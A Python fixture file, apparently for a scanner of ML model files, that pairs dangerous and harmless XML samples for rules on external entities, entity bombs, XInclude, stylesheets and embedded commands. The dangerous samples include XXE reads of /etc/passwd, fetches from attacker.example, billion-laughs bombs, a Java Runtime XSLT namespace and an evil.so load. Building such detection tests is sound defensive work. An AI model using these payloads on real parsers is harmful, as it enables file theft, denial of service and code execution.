"""XML that fetches, expands, includes and runs."""

from golden.pairs import Golden

_BODY = (
    '<PMML version="4.4"><Header><Extension extender="metrics">subprocess latency &amp; more</Extension>'
    "</Header></PMML>"
)
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
_HONEST = (
    _HEAD + "<!-- <!ENTITY x SYSTEM 'file:///etc/passwd'> -->\n<!DOCTYPE PMML [<!ENTITY copy '(c)'>]>\n"
    + _BODY.replace("metrics", "m &copy;").replace("more", "<![CDATA[<!DOCTYPE a SYSTEM 'http://x.example/'>]]>")
)  # fmt: skip
_BOMB = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))


def _pair(
    rule: str, dangerous: str | bytes, case: str = "", harmless: str = _HONEST, name: str = "model.pmml"
) -> Golden:
    data = dangerous.encode() if isinstance(dangerous, str) else dangerous
    return Golden(rule, name, lambda: data, harmless.encode, case, techniques=("F14",))


def _entity(declaration: str) -> str:
    return f"{_HEAD}<!DOCTYPE PMML [{declaration}]>\n{_BODY}"


_OPENVINO = (
    '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="{}" version="{}"{}/></layers></net>'
)
_FILE = '<!ENTITY x SYSTEM "file:///etc/passwd">'

GOLDENS = [
    _pair("xml.external-entity", _entity(_FILE)),
    _pair("xml.external-entity", _entity('<!ENTITY % x PUBLIC "a" "http://attacker.example/x"> %x;'), "parameter"),
    _pair("xml.external-entity", _entity("<!ENTITY % p '<!ENTITY &#x25; q SYSTEM \"file:///x\">'> %p;"), "assembled"),
    _pair("xml.external-entity", _entity(_FILE).encode("utf-16"), "UTF-16"),
    _pair("xml.external-entity", _entity(_FILE).encode("utf-16-le"), "UTF-16 without a mark"),
    _pair("xml.external-entity", "<!-- a > b -->" + _entity(_FILE).removeprefix(_HEAD), "behind a comment"),
    _pair("xml.external-entity", _FILE + "<!ENTITY a 'b'>", "declarations alone", "<!ENTITY a 'b'>", "model.dtd"),
    _pair("xml.external-dtd", f'{_HEAD}<!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd">{_BODY}'),
    _pair(
        "xml.external-dtd",
        f'{_HEAD}<!DOCTYPE plist PUBLIC "-//A//B" "http://attacker.example/www.apple.com/x.dtd"><plist/>',
        "property list",
        f'{_HEAD}<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"'
        ' "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist><dict/></plist>',
        "Info.plist",
    ),
    _pair(
        "xml.entity-bomb",
        _entity("".join(f"<!ENTITY a{at} '{f'&a{at - 1};' * 10 if at else 'lol'}'>" for at in range(5))),
        "small",
        _entity("<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"),
    ),
    _pair(
        "xml.entity-bomb",
        _entity('<!ENTITY a0 "lol">' + _BOMB),
        harmless=_entity("<!ENTITY a '1'><!ENTITY b '&a;&a;'>"),
    ),
    _pair("xml.entity-bomb", _entity('<!ENTITY a0 "lol">' + _BOMB.replace('"', "'")), "other quotes"),
    _pair(
        "xml.entity-bomb",
        f"<!DOCTYPE PMML [<!ENTITY a '{'x' * 9000}'>]><PMML>{'&a;' * 900}</PMML>",
        "quadratic",
        f"<!DOCTYPE PMML [<!ENTITY a '{'x' * 90}'>]><PMML>{'&a;' * 900}</PMML>",
    ),
    _pair(
        "xml.include",
        f'{_HEAD}<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></PMML>',
        harmless=f'{_HEAD}<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="part.xml"/></PMML>',
    ),
    _pair(
        "xml.stylesheet",
        f'{_HEAD}<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>{_BODY}',
        harmless=f'{_HEAD}<?xml-stylesheet type="text/xsl" href="model.xsl"?>{_BODY}',
    ),
    _pair("xml.script", _HEAD + _BODY.replace("subprocess", "<script>print(1)</script>")),
    _pair(
        "xml.script",
        f'{_HEAD}<xsl:stylesheet xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>',
        "Java",
        f'{_HEAD}<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    ),
    _pair("embedded.commands", _HEAD + _BODY.replace("subprocess", "os.system(&quot;echo&quot;)"), "PMML"),
    _pair(
        "xml.library",
        _OPENVINO.format("Custom", "extension", ' library="./evil.so"'),
        harmless=_OPENVINO.format("Parameter", "opset1", ""),
        name="model.xml",
    ),
]
